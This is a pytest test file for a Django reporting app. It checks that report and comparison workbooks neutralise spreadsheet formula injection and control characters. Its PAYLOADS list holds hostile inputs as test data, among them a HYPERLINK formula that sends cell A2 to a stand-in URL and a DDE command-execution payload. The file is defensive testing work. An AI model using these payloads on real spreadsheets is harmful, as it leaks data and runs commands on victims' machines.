"""The report workbook and the national comparison cannot attack their readers: a reporter's
formula-like text is a text cell shown as typed; a stored control character (older data) is
replaced, never a 500; a control character typed in is refused naming the field."""

from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from alfadmin.kernel.spreadsheets import REPLACEMENT
from reporting import services
from reporting.comparison import Comparison, comparison_workbook
from reporting.models import ReportValue

from .conftest import fill

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://x?"&A2,"Click")', "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)", "\tleading tab", "\rleading CR"]
COMMENTED = ["doctoral_degrees", "enrolled_hst", "education_personnel", "education_premises", "education_other", "research_other", "research_premises"]
TEXT_FIELD = "use_narrative"
TEXT_LABEL = "How the ALF money was used"
EN = {"HTTP_ACCEPT_LANGUAGE": "en"}


def _rows(content: bytes) -> dict:
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    return {row[0].value: row for row in sheet.iter_rows(min_row=2) if row[0].value}


def test_formula_like_values_and_comments_are_text_cells_shown_as_typed(client, people, sth_report):
    report = fill(sth_report, people["sth"])
    report = services.report_update(
        report=report,
        values={TEXT_FIELD: PAYLOADS[0]},
        comments=dict(zip(COMMENTED, PAYLOADS, strict=True)),
        expected_version=report.version,
        actor=people["sth"],
    )
    client.force_login(people["sth"])
    response = client.get(reverse("reporting:download", args=[report.pk]))
    assert response.status_code == 200
    rows = _rows(response.content)
    cells = [rows[TEXT_FIELD][2], *(rows[code][3] for code in COMMENTED)]
    assert [cell.data_type for cell in cells] == ["s"] * 8
    # XML reads a carriage return as a line feed; every other text reads back as typed.
    assert [cell.value for cell in cells] == [PAYLOADS[0], *PAYLOADS[:-1], "\nleading CR"]
    assert (rows["doctoral_degrees"][2].value, rows["doctoral_degrees"][2].data_type) == (10, "n")


def test_a_stored_control_character_is_replaced_in_the_workbook(client, people, sth_report):
    report = fill(sth_report, people["sth"])
    ReportValue.objects.create(report=report, code=TEXT_FIELD, text="a\u000bb", comment="c\u000bd")  # as older data may hold
    client.force_login(people["sth"])
    response = client.get(reverse("reporting:download", args=[report.pk]))
    assert response.status_code == 200
    row = _rows(response.content)[TEXT_FIELD]
    assert (row[2].value, row[3].value) == (f"a{REPLACEMENT}b", f"c{REPLACEMENT}d")


def test_the_page_refuses_a_control_character_naming_the_field(client, people, sth_report):
    client.force_login(people["sth"])
    response = client.post(
        reverse("reporting:report", args=[sth_report.pk]), {"version": sth_report.version, f"value-{TEXT_FIELD}": "a\u000bb"}, **EN
    )
    assert response.status_code == 400
    message = f"{TEXT_LABEL} contains a control character (U+000B): remove it (it usually comes from pasting)."
    assert [str(m) for m in response.context["messages"]] == [message]
    assert not ReportValue.objects.filter(report=sth_report, code=TEXT_FIELD).exists()


def test_the_api_refuses_a_control_character_in_a_value_or_a_comment_naming_the_field(api_client, people, sth_report):
    api_client.force_authenticate(people["sth"])
    url = f"/api/v1/reports/{sth_report.pk}/"
    value = api_client.patch(url, {"values": {TEXT_FIELD: "a\u000bb"}, "version": sth_report.version}, format="json", **EN)
    comment = api_client.patch(url, {"comments": {"doctoral_degrees": "ok\u0007"}, "version": sth_report.version}, format="json", **EN)
    assert (value.status_code, comment.status_code) == (400, 400)
    assert value.json() == {TEXT_FIELD: [f"{TEXT_LABEL} contains a control character (U+000B): remove it (it usually comes from pasting)."]}
    assert comment.json() == {
        "doctoral_degrees": ["Comment: Doctoral degrees in medicine contains a control character (U+0007): remove it (it usually comes from pasting)."]
    }


def test_an_uploaded_control_character_is_a_row_error_naming_the_field(people, sth_report):
    """An XLSX file cannot hold one (XML refuses it), but the preview of an upload checks what it
    read with the save's own checks: a row error naming the field, nothing applied."""
    report = fill(sth_report, people["sth"])
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        services.report_update_preview(report=report, values={}, comments={"doctoral_degrees": "see\x1fabove"}, actor=people["sth"])
    assert refused.value.message_dict == {
        "doctoral_degrees": ["Comment: Doctoral degrees in medicine contains a control character (U+001F): remove it (it usually comes from pasting)."]
    }


def test_the_comparison_workbook_writes_a_formula_like_region_as_text():
    content = comparison_workbook(Comparison(year=2024, regions=["=1+2"], rows=[{"year": 2024, "region": "=1+2", "kr_per_hst": -5}]))
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=False)}
    assert (row["region"].value, row["region"].data_type) == ("=1+2", "s")
    assert (row["kr_per_hst"].value, row["kr_per_hst"].data_type) == (-5, "n")
